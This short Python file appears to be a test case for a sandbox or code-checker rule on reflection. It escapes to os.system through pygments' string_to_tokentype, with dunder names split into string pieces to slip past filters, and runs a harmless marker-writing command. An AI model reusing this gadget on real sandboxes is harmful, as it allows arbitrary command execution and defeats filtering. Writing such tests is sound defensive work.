# rule: reflection
# marker: pwned_f1_tokentype
# Family 1: pygments' string_to_tokentype walks a dotted attribute path.
from pygments.token import string_to_tokentype

g = string_to_tokentype("__init__.__glo" + "bals__")
b = g["__buil" + "tins__"]
b["__imp" + "ort__"]("os").system("echo ran > pwned_f1_tokentype")
